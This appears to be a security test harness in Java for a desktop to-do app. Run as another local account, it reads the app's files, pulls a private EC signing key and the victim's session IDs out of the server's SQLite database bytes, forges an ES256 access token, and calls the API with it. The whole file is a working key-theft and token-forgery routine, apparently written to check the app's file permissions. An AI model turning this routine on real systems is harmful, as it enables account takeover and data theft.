import java.math.BigInteger;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.AccessDeniedException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.AlgorithmParameters;
import java.security.KeyFactory;
import java.security.Signature;
import java.security.spec.ECGenParameterSpec;
import java.security.spec.ECParameterSpec;
import java.security.spec.ECPrivateKeySpec;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.UUID;
import java.util.regex.Pattern;

/**
 * What another account on the computer tries, with nothing but a JDK: read the app's files,
 * find the embedded server's private signing key and a session of the victim in the server's
 * database bytes, sign an access token and call the API with it. Run as that other account
 * (runuser -u nobody). Prints one line per step; the last is the verdict:
 * FORGED (the server accepted a forged token), NO-KEY, REFUSED <statuses>, or READ-DENIED.
 *
 * <p>Usage: java Forge.java DATA_DIR CONFIG_DIR API_BASE USER_ID
 */
public class Forge {
    private static final Pattern PRIVATE_JWK = Pattern.compile("\\{[^{}]*\"d\":\"([A-Za-z0-9_-]+)\"[^{}]*\\}");
    private static final Pattern KID = Pattern.compile("\"kid\":\"([^\"]+)\"");

    public static void main(String[] args) throws Exception {
        Path data = Path.of(args[0]);
        Path config = Path.of(args[1]);
        URI api = URI.create(args[2]);
        String userId = args[3];

        int readable = 0;
        int denied = 0;
        for (Path root : List.of(data, config)) {
            for (Path file : files(root)) {
                try {
                    Files.readAllBytes(file);
                    readable++;
                    System.out.println("READ " + file);
                } catch (AccessDeniedException e) {
                    denied++;
                }
            }
        }
        System.out.println("readable=" + readable + " denied=" + denied);

        var bytes = new StringBuilder();
        for (String name : List.of("todo-server.db", "todo-server.db-wal")) {
            try {
                bytes.append(new String(Files.readAllBytes(data.resolve("server").resolve(name)), StandardCharsets.ISO_8859_1));
            } catch (java.io.IOException e) {
                System.out.println("cannot read " + name + ": " + e.getClass().getSimpleName());
            }
        }
        if (bytes.isEmpty()) {
            System.out.println("READ-DENIED");
            return;
        }
        var keys = new ArrayList<String[]>();
        var m = PRIVATE_JWK.matcher(bytes);
        while (m.find()) {
            var kid = KID.matcher(m.group());
            if (kid.find()) {
                keys.add(new String[] {kid.group(1), m.group(1)});
            }
        }
        var sessions = new LinkedHashSet<String>();
        var s = Pattern.compile("([0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12})" + Pattern.quote(userId)).matcher(bytes);
        while (s.find()) {
            sessions.add(s.group(1));
        }
        System.out.println("private keys found=" + keys.size() + " candidate sessions=" + sessions.size());
        if (keys.isEmpty()) {
            System.out.println("NO-KEY");
            return;
        }
        var http = HttpClient.newHttpClient();
        var statuses = new ArrayList<Integer>();
        for (String[] key : keys) {
            for (String sid : sessions) {
                String token = sign(key[0], key[1], userId, sid);
                var response = http.send(HttpRequest.newBuilder(api.resolve("/api/" + userId + "/tasks"))
                        .header("Authorization", "Bearer " + token).GET().build(), HttpResponse.BodyHandlers.ofString());
                statuses.add(response.statusCode());
                if (response.statusCode() == 200) {
                    System.out.println("FORGED");
                    return;
                }
            }
        }
        System.out.println("REFUSED " + statuses);
    }

    private static List<Path> files(Path root) {
        var out = new ArrayList<Path>();
        try (var walk = Files.walk(root)) {
            walk.filter(Files::isRegularFile).forEach(out::add);
        } catch (Exception e) {
            System.out.println("cannot list " + root + ": " + e.getClass().getSimpleName());
        }
        return out;
    }

    private static String sign(String kid, String d, String userId, String sid) throws Exception {
        var params = AlgorithmParameters.getInstance("EC");
        params.init(new ECGenParameterSpec("secp256r1"));
        var spec = new ECPrivateKeySpec(new BigInteger(1, Base64.getUrlDecoder().decode(d)), params.getParameterSpec(ECParameterSpec.class));
        var key = KeyFactory.getInstance("EC").generatePrivate(spec);
        long now = System.currentTimeMillis() / 1000;
        String header = "{\"alg\":\"ES256\",\"kid\":\"" + kid + "\",\"typ\":\"JWT\"}";
        String claims = "{\"iss\":\"todo-desktop\",\"aud\":\"todo-desktop-api\",\"sub\":\"" + userId + "\",\"sid\":\"" + sid
                + "\",\"iat\":" + now + ",\"exp\":" + (now + 600) + ",\"jti\":\"" + UUID.randomUUID() + "\"}";
        var b64 = Base64.getUrlEncoder().withoutPadding();
        String input = b64.encodeToString(header.getBytes(StandardCharsets.UTF_8)) + "." + b64.encodeToString(claims.getBytes(StandardCharsets.UTF_8));
        var signer = Signature.getInstance("SHA256withECDSAinP1363Format");
        signer.initSign(key);
        signer.update(input.getBytes(StandardCharsets.US_ASCII));
        return input + "." + b64.encodeToString(signer.sign());
    }
}
